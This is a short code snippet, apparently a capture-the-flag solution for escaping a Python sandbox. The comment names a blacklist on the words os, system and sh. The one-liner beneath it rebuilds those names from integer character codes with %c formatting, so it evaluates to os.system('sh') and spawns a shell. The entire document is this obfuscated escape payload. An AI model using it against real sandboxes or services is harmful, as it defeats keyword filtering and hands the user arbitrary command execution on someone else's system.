# restriction: words os/system/sh blacklisted; idea: printf-style %c formatting builds the names from integers
getattr(__import__('%c%c'%(111,115)),'%c%c%c%c%c%c'%(115,121,115,116,101,109))('%c%c'%(115,104))
